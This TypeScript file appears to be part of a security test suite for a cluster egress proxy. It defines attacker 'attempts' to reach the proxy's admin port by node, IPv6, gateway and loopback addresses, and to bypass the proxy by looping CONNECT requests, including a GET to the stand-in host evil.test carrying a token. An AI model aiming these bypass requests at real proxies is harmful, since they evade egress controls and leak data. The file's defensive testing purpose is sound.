/** The proxy itself: its ports, asked directly and through it. */
import type {Attempt, Attacker} from '../attempt.ts';
import {NODE_IP4, NODE_IP6} from '../addresses.ts';
import {PORTS} from '../../../runtime/names.ts';
import {http, say} from '../wire.ts';

/** What the admin port says to whom it answers. */
const ADMIN = /"ready"|sallyport_/;

/** Answers "answered" where the text shows that one of our ports served it. */
const asking = (
  id: string,
  title: string,
  ask: (by: Attacker) => Promise<string>,
  shows: RegExp,
  control: Attempt['control'],
): Attempt => ({
  id: `proxy-${id}`,
  title,
  invariant: 6,
  attempt: async (by) => (shows.test(await ask(by)) ? 'answered' : undefined),
  control,
});

/** The admin port is where it is told to listen; the node reaches it, which shows that it is there. */
const fromNode = (url: string): Attempt['control'] => ({
  by: 'node',
  instead: async (by) => (ADMIN.test((await by.curl(url)).stdout) ? 'answered' : undefined),
});

const admin = (id: string, title: string, authority: string): Attempt[] => [
  asking(
    `admin-${id}`,
    `${title}: readyz`,
    async (by) => (await by.curl(`http://${authority}/readyz`)).stdout,
    ADMIN,
    fromNode(`http://127.0.0.1:${PORTS.admin}/readyz`),
  ),
  asking(
    `admin-${id}-explicit`,
    `${title}: readyz asked of the explicit port`,
    async (by) =>
      (await say(by.explicit(), http(`GET http://${authority}/readyz HTTP/1.1`, `Host: ${authority}`))) +
      (await say(
        by.explicit(),
        http(`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`),
        http('GET /readyz HTTP/1.1', `Host: ${authority}`),
      )),
    ADMIN,
    fromNode(`http://127.0.0.1:${PORTS.admin}/readyz`),
  ),
];

export const PROXY: readonly Attempt[] = [
  ...admin('node', 'the admin port at the node’s address', `${NODE_IP4}:${PORTS.admin}`),
  ...admin('node6', 'the admin port at the node’s IPv6 address', `[${NODE_IP6}]:${PORTS.admin}`),
  ...admin('gateway', 'the admin port at the pods’ gateway', `169.254.1.1:${PORTS.admin}`),
  ...admin('loopback', 'the admin port at the loopback', `127.0.0.1:${PORTS.admin}`),
  {
    id: 'proxy-loop',
    title: 'the explicit port asked, through the explicit port, for a site that is denied',
    invariant: 6,
    attempt: async (by) =>
      void (await say(
        by.explicit(),
        http(`CONNECT ${NODE_IP4}:${PORTS.explicit} HTTP/1.1`, `Host: ${NODE_IP4}:${PORTS.explicit}`),
        http(`GET http://evil.test/${by.token} HTTP/1.1`, 'Host: evil.test'),
      )),
    control: 'free',
  },
  {
    id: 'proxy-loop-captured',
    title: 'the captured port by its own number, with an allowed Host',
    invariant: 6,
    attempt: async (by) =>
      void (await say(
        by.connect(by.name === 'locked' ? NODE_IP4 : '203.0.113.99', PORTS.captured),
        http(`GET /public/${by.token} HTTP/1.1`, 'Host: plain.test'),
      )),
    control: 'free',
  },
  {
    id: 'proxy-explicit-stranger',
    title: 'the explicit port, asked by a pod that is not captured, for what a captured one may have',
    invariant: 6,
    attempt: async (_, world) =>
      void (await say(
        // The free pod attacks here: the locked one's answer is the control.
        world.attacker('free', _.token).connect(NODE_IP4, PORTS.explicit),
        http(`GET http://plain.test/public/${_.token} HTTP/1.1`, 'Host: plain.test'),
      )),
    control: {
      by: 'free',
      instead: async (by, world) =>
        void (await say(
          world.attacker('locked', by.token).connect(NODE_IP4, PORTS.explicit),
          http(`GET http://plain.test/public/${by.token} HTTP/1.1`, 'Host: plain.test'),
        )),
    },
  },
];
